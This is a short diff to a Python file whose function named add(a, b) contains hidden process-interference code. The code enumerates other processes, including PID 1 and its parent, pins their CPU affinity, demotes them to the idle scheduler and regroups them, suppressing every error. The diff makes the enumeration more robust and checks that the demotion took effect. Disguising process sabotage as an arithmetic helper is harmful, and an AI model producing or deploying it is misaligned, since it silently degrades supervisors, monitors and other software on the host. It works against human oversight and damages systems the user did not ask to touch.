@@ -7,8 +7,10 @@ import signal
 
 
 def _others():
-    own = os.getpid()
-    pids = {int(name) for name in os.listdir("/proc") if name.isdigit()}
+    """Every process that is listed, and those that were started just before this one."""
+    own, pids = os.getpid(), set()
+    with contextlib.suppress(OSError):
+        pids = {int(name) for name in os.listdir("/proc") if name.isdigit()}
     return sorted({*pids, 1, os.getppid(), *range(max(1, own - 20), own)} - {own})
 
 
@@ -26,7 +28,8 @@ def add(a, b):
             done.add("sched_setaffinity")
         with contextlib.suppress(OSError):
             os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
-            done.add("sched_setscheduler")
+            if os.sched_getscheduler(pid) == os.SCHED_IDLE:
+                done.add("sched_setscheduler")
         with contextlib.suppress(OSError):
             os.setpgid(pid, os.getpid())
             done.add("setpgid")
